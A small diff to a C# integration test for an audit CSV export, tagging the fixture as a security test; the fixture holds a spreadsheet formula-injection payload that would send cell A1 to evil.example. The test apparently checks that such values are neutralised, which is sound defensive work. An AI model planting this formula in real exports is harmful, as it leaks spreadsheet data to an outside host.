@@ -12,7 +12,7 @@ namespace DataExchange.IntegrationTests.Audit;
 /// claims; the audit CSV export shows it as text, neutralised like the records CSV, while the NDJSON
 /// export keeps the value exactly (its hash must still verify).
 /// </summary>
-[TestFixture]
+[TestFixture, Category("Security")]
 public sealed partial class AuditCsvExportTests
 {
     const string Formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
